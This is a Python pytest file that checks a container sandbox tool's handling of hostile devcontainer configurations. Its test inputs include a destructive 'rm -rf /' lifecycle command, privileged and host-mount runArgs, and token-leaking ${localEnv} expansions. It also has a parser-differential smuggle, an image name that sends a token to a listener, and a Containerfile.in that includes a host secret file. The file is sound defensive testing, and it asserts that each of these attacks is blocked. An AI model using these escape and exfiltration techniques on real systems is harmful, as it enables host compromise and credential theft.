"""A hostile repository's ``.devcontainer/devcontainer.json`` (and Dockerfile) against
``codex-box run --devcontainer``: the claim is that the profile wins on every security
setting. Passing tests are attacks that are blocked, each checked by its effect (from
inside the container, on the host, in the audit log). Nine of them were holes when the
red team wrote them (a runArgs host passthrough, the Dev Containers CLI's environment,
image metadata, a parser differential, ADD of a URL, a pulled base, Containerfile.in),
fixed since.

Engines: Docker for almost everything, Podman where the hole is Podman's own
(``Containerfile.in``). Tests through the Dev Containers CLI need it at
``.tools/devcontainers`` (``make devcontainer-cli``)."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import threading
import uuid
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from orchestrator.core.errors import Refused
from orchestrator.devcontainer.build import image_tag
from orchestrator.devcontainer.plan import plan
from orchestrator.devcontainer.reading import Loaded
from orchestrator.profiles.store import ProfileStore
from tests.conftest import REPO, Ran
from tests.integration.session_helpers import audit_records

CLI_PATH = REPO / ".tools" / "devcontainers" / "node_modules" / ".bin" / "devcontainer"
SECRET = "dcx-host-secret-" + uuid.uuid4().hex[:8]  # a host variable no sandbox may see
CONFINED = "grep -E '^(CapEff|NoNewPrivs|Seccomp):' /proc/self/status | tr -s '\\t ' ' '; "
CONFINED_LINES = ["CapEff: 0000000000000000", "NoNewPrivs: 1", "Seccomp: 2"]


# --- helpers ---------------------------------------------------------------------------------


def write_config(workspace: Path, config: dict[str, Any] | str, **files: str) -> Path:
    folder = workspace / ".devcontainer"
    folder.mkdir(exist_ok=True)
    path = folder / "devcontainer.json"
    path.write_text(config if isinstance(config, str) else json.dumps(config, indent=1))
    for name, text in files.items():
        (folder / name).write_text(text)
    return path


def denied(codex_home: Path) -> list[dict[str, Any]]:
    return [r for r in audit_records(codex_home) if r.get("decision") == "denied"]


def audit_text(codex_home: Path) -> str:
    return "".join(p.read_text(errors="replace") for p in codex_home.glob("audit.log*"))


@pytest.fixture
def enforce(codex_home: Path) -> Path:
    """CODEX_HOME with the execution policy enforcing (the suite's default is audit-only)."""
    (codex_home / "config.toml").write_text('[policy]\nmode = "enforce"\n')
    return codex_home


@pytest.fixture
def built(workspace: Path) -> Iterator[list[str]]:
    """Removes, from both engines, the image a build made for ``workspace`` and every
    tag the test appends."""
    tags = [image_tag(str(workspace))]
    yield tags
    for engine in ("docker", "podman"):
        if shutil.which(engine):
            subprocess.run(
                [engine, "rmi", "-f", *tags], capture_output=True, timeout=60, check=False
            )


class Listener:
    """An HTTP server on the host's loopback, reachable only from the host's network
    namespace: a request here from a build or a CLI is the host's network at work."""

    def __init__(self) -> None:
        hits: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(f"{self.command} {self.path}")
                if self.path.startswith("/secret"):
                    body = f"{SECRET}-from-host-loopback\n".encode()
                    self.send_response(200)
                    self.send_header("Content-Length", str(len(body)))
                    self.end_headers()
                    if self.command == "GET":
                        self.wfile.write(body)
                    return
                self.send_response(404)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_HEAD = do_GET

            def log_message(self, *args: object) -> None:
                pass

        self.hits = hits
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    one = Listener()
    try:
        yield one
    finally:
        one.close()


def dc_run(
    cli: Callable[..., Ran],
    profile: str,
    *argv: str,
    backend: str = "docker",
    env: dict[str, str] | None = None,
    flags: tuple[str, ...] = (),
) -> Ran:
    return cli(
        "run",
        "--backend",
        backend,
        "--devcontainer",
        "-p",
        profile,
        *flags,
        "--",
        *argv,
        env=env,
        timeout=240,
    )


STORE = ProfileStore(codex_home=Path("/nonexistent-codex-home"))


def planned(config: dict[str, Any], workspace: Path, profile: str = "workspace") -> Any:
    """``plan`` of ``config`` as the json5 path reads it (no engine)."""
    loaded = Loaded(
        file=workspace / ".devcontainer" / "devcontainer.json",
        workspace=str(workspace),
        raw=config,
        config=config,
        via="json5",
    )
    home = str(workspace.parent / "home")
    return plan(
        loaded,
        STORE.get(profile),
        home=home,
        codex_home=home + "/.codex",
        environ={"PATH": "/usr/bin:/bin", "HOME": home, "GITHUB_TOKEN": SECRET},
    )


# --- blocked: host execution and the policy --------------------------------------------------


def test_lifecycle_commands_run_in_the_sandbox_judged_by_the_policy_and_audited(
    docker_available: None,
    cli: Callable[..., Ran],
    workspace: Path,
    enforce: Path,
    tmp_path: Path,
) -> None:
    """A postCreateCommand the policy forbids (``rm -rf /``) is refused with --approve
    too, nothing after it runs, and the refusal is audited; one the policy allows runs in
    the container — the host marker it writes does not appear."""
    marker = tmp_path / "host-marker"
    (workspace / "keep").write_text("precious\n")
    write_config(
        workspace,
        {
            "image": "codex-box/base",
            "postCreateCommand": f"rm -rf --no-preserve-root /; rm -f keep; touch {marker}",
        },
    )
    ran = dc_run(cli, "workspace", "echo", "MAIN", flags=("--approve",))
    assert ran.returncode == 126, ran.stdout + ran.stderr
    assert "MAIN" not in ran.stdout
    assert (workspace / "keep").read_text() == "precious\n"
    assert not marker.exists()
    refused = [r for r in denied(enforce) if "rm -rf" in json.dumps(r)]
    assert refused, "the refused lifecycle command left no denied record"
    # An allowed one runs inside: its write to that host path lands in the container's
    # private /tmp, not on the host.
    write_config(workspace, {"image": "codex-box/base", "onCreateCommand": ["touch", str(marker)]})
    ran = dc_run(cli, "workspace", "ls", str(marker), flags=("--approve",))
    assert ran.returncode == 0 and ran.stdout.strip() == str(marker), ran.stderr
    assert not marker.exists()


def test_initialize_command_never_runs_on_the_host_also_through_the_cli(
    docker_available: None,
    devcontainer_cli: str,
    cli: Callable[..., Ran],
    workspace: Path,
    codex_home: Path,
    tmp_path: Path,
) -> None:
    marker = tmp_path / "initialize-ran"
    write_config(
        workspace,
        {
            "image": "codex-box/base",
            "initializeCommand": ["touch", str(marker)],
            "postAttachCommand": f"touch {marker}",
        },
    )
    for env in (None, {"CODEX_BOX_DEVCONTAINER_CLI": devcontainer_cli}):
        ran = dc_run(cli, "workspace", "true", env=env)
        assert ran.returncode == 126, ran.stderr
        assert "initializeCommand" in ran.stderr
        assert not marker.exists()
    assert len(denied(codex_home)) == 2


# --- blocked: what the container gets ---------------------------------------------------------


def test_remote_user_root_gains_no_capability_and_cannot_plant_setuid_files(
    docker_available: None,
    cli: Callable[..., Ran],
    workspace: Path,
) -> None:
    """remoteUser 0:0 (and a hostname, a foreign label) under workspace: uid 0 in the
    container, but no capabilities, no new privileges, seccomp, no network; a setuid
    bit cannot be set on a file it writes to the host's workspace; the image is
    read-only."""
    write_config(
        workspace,
        {
            "image": "codex-box/base",
            "remoteUser": "0:0",
            "runArgs": ["--hostname", "devbox", "-l", "com.example.x=1"],
        },
    )
    script = (
        CONFINED + "id -u; hostname; ls /sys/class/net; cp /bin/true suid; "
        "chmod 4755 suid 2>/dev/null || echo chmod-refused; echo x > /etc/x 2>/dev/null "
        "|| echo etc-ro"
    )
    ran = dc_run(cli, "workspace", "sh", "-c", script)
    out = ran.stdout.split("\n")
    assert out[:3] == CONFINED_LINES, ran.stdout + ran.stderr
    assert out[3:7] == ["0", "devbox", "lo", "chmod-refused"], ran.stdout
    assert "etc-ro" in out
    assert not os.stat(workspace / "suid").st_mode & 0o6000


@pytest.mark.parametrize(
    "config",
    [
        {"runArgs": ["--privileged=true"]},
        {"runArgs": ["--cap-add=SYS_ADMIN"]},
        {"runArgs": ["-v/:/host"]},
        {"runArgs": ["-itv", "/:/host"]},
        {"runArgs": ["--security-opt=seccomp=unconfined"]},
        {"runArgs": ["--network", "container:other"]},
        {"runArgs": ["--net=host"]},
        {"runArgs": ["--pid=host"]},
        {"runArgs": ["--userns", "host"]},
        {"runArgs": ["--env-file", "/etc/shadow"]},
        {"runArgs": ["--device=/dev/kmsg"]},
        {"runArgs": ["--mount=type=bind,src=/,dst=/h"]},
        {"runArgs": ["--uts=host"]},
        {"runArgs": ["--some-future-flag"]},
        {"privileged": True},
        {"capAdd": ["SYS_PTRACE"]},
        {"securityOpt": ["seccomp:unconfined"]},
        {"securityOpt": ["apparmor = unconfined"]},
        {"securityOpt": ["no-new-privileges=false"]},
        {"mounts": ["source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind"]},
        {"mounts": [{"type": "bind", "source": "/etc", "target": "/e"}]},
        {"mounts": ["type=bind,source=${localEnv:HOME}/.ssh,target=/s"]},
        {"mounts": ["type=bind,source=${localWorkspaceFolder}/../..,target=/up"]},
        {"mounts": ["type=BIND,source=/,target=/r"]},
        {"mounts": ["type=npipe,source=x,target=/x"]},
        {"containerEnv": {"T": "${localEnv:GITHUB_TOKEN}"}},
        {"containerEnv": {"T": "${env:GITHUB_TOKEN}"}},
        {"containerEnv": {"T": "${localEnv:GITHUB_TOKEN:fallback}"}},
        {"remoteEnv": {"T": "x${localEnv:GITHUB_TOKEN}y"}},
        {"postCreateCommand": ["echo", "${localEnv:GITHUB_TOKEN}"]},
        {"build": {"dockerfile": "Dockerfile", "args": {"T": "${localEnv:GITHUB_TOKEN}"}}},
        {"build": {"dockerfile": "Dockerfile", "options": ["--network=host"]}},
        {"initializeCommand": "id"},
        {"features": {"ghcr.io/devcontainers/features/docker-in-docker:2": {}}},
        {"dockerComposeFile": "compose.yml", "service": "x"},
        {"forwardPorts": [8080]},
    ],
    ids=lambda c: json.dumps(c)[:60],
)
def test_keys_that_reach_the_host_are_refused(config: dict[str, Any], workspace: Path) -> None:
    """Every spelling is refused before anything starts (the run tests below show a
    refusal starts nothing and is audited); no refusal message carries the secret."""
    with pytest.raises(Refused) as refused:
        planned({"image": "codex-box/base", **config}, workspace, profile="offline")
    assert SECRET not in str(refused.value)


def test_volumes_over_the_workspace_the_kernel_or_masks_and_own_labels_are_refused(
    docker_available: None,
    cli: Callable[..., Ran],
    workspace: Path,
    codex_home: Path,
) -> None:
    """A volume is a private tmpfs, never over the workspace, /proc or a protected path;
    a label never poses as codex-box's own (codex-box.owner decides what gc removes).
    Each refusal exits before a container starts and leaves a denied record."""
    ws = str(workspace)
    refused_configs = [
        {"mounts": [f"type=volume,target={ws}"]},
        {"mounts": [f"type=volume,target={ws}/.git"]},
        {"mounts": ["type=volume,target=/proc/sys"]},
        {"mounts": ["type=tmpfs,target=//sys/fs/../fs/cgroup"]},
        {"runArgs": ["--label", "codex-box.owner=otherhost:1:1"]},
        {"runArgs": ["-lCodex-Box.session=x"]},
        {"runArgs": ["--user", "root --privileged"]},
        {"runArgs": ["-h", "x --privileged"]},
    ]
    for config in refused_configs:
        write_config(workspace, {"image": "codex-box/base", **config})
        ran = dc_run(cli, "workspace", "true")
        assert ran.returncode in (2, 126), (config, ran.stderr)
    assert len(denied(codex_home)) == len(refused_configs)
    # A volume elsewhere is an empty, private tmpfs, gone with the container.
    write_config(
        workspace,
        {"image": "codex-box/base", "mounts": ["source=cache,target=/var/cache/dcx,type=volume"]},
    )
    for _ in range(2):
        ran = dc_run(
            cli, "workspace", "sh", "-c", "ls -A /var/cache/dcx; touch /var/cache/dcx/left; echo ok"
        )
        assert ran.stdout == "ok\n", ran.stderr
    assert (
        subprocess.run(
            ["docker", "volume", "inspect", "cache"], capture_output=True, check=False
        ).returncode
        != 0
    )


# --- blocked: the build ------------------------------------------------------------------------


def test_a_build_context_or_dockerfile_outside_the_workspace_is_refused(
    docker_available: None,
    cli: Callable[..., Ran],
    workspace: Path,
    home: Path,
    codex_home: Path,
    built: list[str],
) -> None:
    (home / "host-secret").write_text(SECRET + "\n")
    (workspace / "inside").mkdir()
    (workspace / "inside" / "Dockerfile").symlink_to(workspace.parent / "Dockerfile")
    (workspace.parent / "Dockerfile").write_text("FROM codex-box/base\nCOPY . /ctx\n")
    dockerfile = "FROM codex-box/base\nCOPY . /ctx\n"
    for build in (
        {"dockerfile": "Dockerfile", "context": "../.."},
        {"dockerfile": "../../Dockerfile"},
        {"dockerfile": "/etc/hostname"},
        {"dockerfile": "../inside/Dockerfile", "context": ".."},
    ):
        write_config(workspace, {"build": build}, Dockerfile=dockerfile)
        ran = dc_run(cli, "offline", "true")
        assert ran.returncode == 126, (build, ran.stderr)
        assert "outside the workspace" in ran.stderr
    assert len(denied(codex_home)) == 4
    # A symlink inside the context does not carry the host file into the image.
    (workspace / "link").symlink_to(home / "host-secret")
    (workspace / "dirlink").symlink_to(home)
    write_config(
        workspace,
        {"build": {"dockerfile": "Dockerfile", "context": ".."}},
        Dockerfile="FROM codex-box/base\nCOPY link /l1\nCOPY dirlink/host-secret /l2\n",
    )
    ran = dc_run(cli, "offline", "sh", "-c", "cat /l1 /l2")
    assert SECRET not in ran.stdout + ran.stderr
    assert ran.returncode == 125, ran.stderr  # the build fails: not in the context


def test_a_build_context_holding_codex_home_is_refused(
    docker_available: None,
    cli: Callable[..., Ran],
    home: Path,
    codex_home: Path,
    built: list[str],
) -> None:
    """Run in the home (which holds CODEX_HOME), a build whose context is the home is
    refused before it copies CODEX_HOME into an image."""
    (codex_home / "auth.json").write_text(json.dumps({"token": SECRET}))
    built.append(image_tag(str(home)))
    write_config(
        home,
        {"build": {"dockerfile": "Dockerfile", "context": ".."}},
        Dockerfile="FROM codex-box/base\nCOPY . /ctx\n",
    )
    ran = cli(
        "run",
        "--backend",
        "docker",
        "--devcontainer",
        "-p",
        "offline",
        "--",
        "sh",
        "-c",
        "cat /ctx/.codex/auth.json",
        cwd=home,
        timeout=240,
    )
    assert SECRET not in ran.stdout + ran.stderr
    assert ran.returncode == 126, ran.stderr
    assert "masks" in ran.stderr


def test_a_refused_session_start_is_audited_and_starts_nothing(
    docker_available: None,
    cli: Callable[..., Ran],
    workspace: Path,
    codex_home: Path,
) -> None:
    write_config(workspace, {"image": "codex-box/base", "capAdd": ["SYS_ADMIN"]})
    ran = cli(
        "session", "start", "--backend", "docker", "--devcontainer", "-p", "workspace", timeout=120
    )
    assert ran.returncode == 126, ran.stderr
    assert [r["operation"] for r in denied(codex_home)] == ["session_start"]
    listed = cli("session", "ls")
    assert str(workspace) not in listed.stdout


# --- holes --------------------------------------------------------------------------------------


def test_run_args_env_without_a_value_does_not_copy_a_host_secret(
    docker_available: None,
    cli: Callable[..., Ran],
    workspace: Path,
) -> None:
    write_config(
        workspace,
        {
            "image": "codex-box/base",
            "runArgs": ["--env", "AWS_SECRET_ACCESS_KEY", "-eGITHUB_TOKEN"],
        },
    )
    ran = dc_run(
        cli,
        "offline",
        "sh",
        "-c",
        "echo A=$AWS_SECRET_ACCESS_KEY G=$GITHUB_TOKEN",
        env={"AWS_SECRET_ACCESS_KEY": SECRET, "GITHUB_TOKEN": SECRET},
    )
    assert ran.returncode in (0, 126), ran.stderr
    assert SECRET not in ran.stdout + ran.stderr


def test_the_cli_does_not_send_a_host_secret_to_a_registry_before_the_refusal(
    docker_available: None,
    devcontainer_cli: str,
    cli: Callable[..., Ran],
    workspace: Path,
    codex_home: Path,
    listener: Listener,
) -> None:
    write_config(workspace, {"image": f"127.0.0.1:{listener.port}/exfil:${{localEnv:DCX_TOKEN}}"})
    ran = dc_run(
        cli,
        "offline",
        "true",
        env={"CODEX_BOX_DEVCONTAINER_CLI": devcontainer_cli, "DCX_TOKEN": SECRET},
    )
    assert ran.returncode == 126, ran.stderr
    assert len(denied(codex_home)) == 1
    assert not [hit for hit in listener.hits if SECRET in hit], listener.hits


def _labelled(tag: str, metadata: list[dict[str, Any]], where: Path) -> None:
    where.mkdir(exist_ok=True)
    (where / "Dockerfile").write_text("FROM codex-box/base\n")
    done = subprocess.run(
        [
            "docker",
            "build",
            "-q",
            "--label",
            f"devcontainer.metadata={json.dumps(metadata)}",
            "-t",
            tag,
            str(where),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr


def test_image_metadata_local_env_does_not_reach_the_sandbox(
    docker_available: None,
    devcontainer_cli: str,
    cli: Callable[..., Ran],
    workspace: Path,
    tmp_path: Path,
    built: list[str],
) -> None:
    tag = f"codex-box-test/dcx-meta:{uuid.uuid4().hex[:8]}"
    built.append(tag)
    _labelled(
        tag,
        [
            {
                "containerEnv": {"LEAK": "${localEnv:DCX_TOKEN}"},
                "remoteEnv": {"LEAK2": "${localEnv:DCX_TOKEN}"},
            }
        ],
        tmp_path / "meta",
    )
    write_config(workspace, {"image": tag})
    ran = dc_run(
        cli,
        "offline",
        "sh",
        "-c",
        "echo L=$LEAK L2=$LEAK2",
        env={"CODEX_BOX_DEVCONTAINER_CLI": devcontainer_cli, "DCX_TOKEN": SECRET},
    )
    assert ran.returncode in (0, 126), ran.stderr
    assert SECRET not in ran.stdout + ran.stderr


def test_a_refusal_of_image_metadata_writes_no_host_secret_to_the_audit_log(
    docker_available: None,
    devcontainer_cli: str,
    cli: Callable[..., Ran],
    workspace: Path,
    codex_home: Path,
    tmp_path: Path,
    built: list[str],
) -> None:
    tag = f"codex-box-test/dcx-meta:{uuid.uuid4().hex[:8]}"
    built.append(tag)
    _labelled(tag, [{"capAdd": ["X${localEnv:DCX_TOKEN}"]}], tmp_path / "meta")
    write_config(workspace, {"image": tag})
    ran = dc_run(
        cli,
        "offline",
        "true",
        env={"CODEX_BOX_DEVCONTAINER_CLI": devcontainer_cli, "DCX_TOKEN": SECRET},
    )
    assert ran.returncode == 126, ran.stderr
    assert len(denied(codex_home)) == 1
    assert SECRET not in audit_text(codex_home)


# JSON5 reads 'X, "containerEnv": {...}, "Y' as one single-quoted KEY (host_variables scans
# values only); the CLI's jsonc parser skips the bad token and reads containerEnv.
DIFFERENTIAL = (
    '{"image": "codex-box/base", \'X, "containerEnv": {"LEAK": '
    '"${localEnv:DCX_TOKEN}"}, "Y\': "Z"}\n'
)


def test_a_json5_jsonc_differential_does_not_smuggle_a_host_variable(
    docker_available: None,
    devcontainer_cli: str,
    cli: Callable[..., Ran],
    workspace: Path,
) -> None:
    write_config(workspace, DIFFERENTIAL)
    ran = dc_run(
        cli,
        "offline",
        "sh",
        "-c",
        "echo L=$LEAK",
        env={"CODEX_BOX_DEVCONTAINER_CLI": devcontainer_cli, "DCX_TOKEN": SECRET},
    )
    assert ran.returncode in (0, 125, 126), ran.stderr  # 125: not strict JSONC (refused unread)
    assert SECRET not in ran.stdout + ran.stderr


@pytest.mark.parametrize("engine", ("docker", "podman"))
def test_an_offline_build_cannot_fetch_from_the_host_network(
    engine: str,
    request: pytest.FixtureRequest,
    cli: Callable[..., Ran],
    workspace: Path,
    listener: Listener,
    built: list[str],
) -> None:
    request.getfixturevalue(f"{engine}_available")
    write_config(
        workspace,
        {"build": {"dockerfile": "Dockerfile"}},
        Dockerfile=(f"FROM codex-box/base\nADD http://127.0.0.1:{listener.port}/secret /fetched\n"),
    )
    ran = dc_run(cli, "offline", "cat", "/fetched", backend=engine)
    assert SECRET not in ran.stdout + ran.stderr
    assert listener.hits == []


def test_an_offline_docker_build_pulls_nothing(
    docker_available: None,
    cli: Callable[..., Ran],
    workspace: Path,
    listener: Listener,
    built: list[str],
) -> None:
    write_config(
        workspace,
        {"build": {"dockerfile": "Dockerfile"}},
        Dockerfile=f"FROM 127.0.0.1:{listener.port}/pulled-base:offline\n",
    )
    ran = dc_run(cli, "offline", "true")
    assert ran.returncode != 0
    assert listener.hits == []


def test_podman_containerfile_in_cannot_include_a_host_file(
    podman_available: None,
    cli: Callable[..., Ran],
    workspace: Path,
    home: Path,
    built: list[str],
) -> None:
    if shutil.which("cpp") is None:
        pytest.skip("no cpp: Podman does not preprocess .in files without it")
    secret = home / "vault-token"
    secret.write_text(SECRET + "\n")
    write_config(
        workspace,
        {"build": {"dockerfile": "Containerfile.in"}},
        **{
            "Containerfile.in": (
                "#define BS \\\\/**/\nFROM codex-box/base\n"
                f'RUN printf "%s\\n" > /leak BS\n#include "{secret}"\n'
            ),
        },
    )
    ran = dc_run(cli, "offline", "cat", "/leak", backend="podman")
    assert SECRET not in ran.stdout + ran.stderr
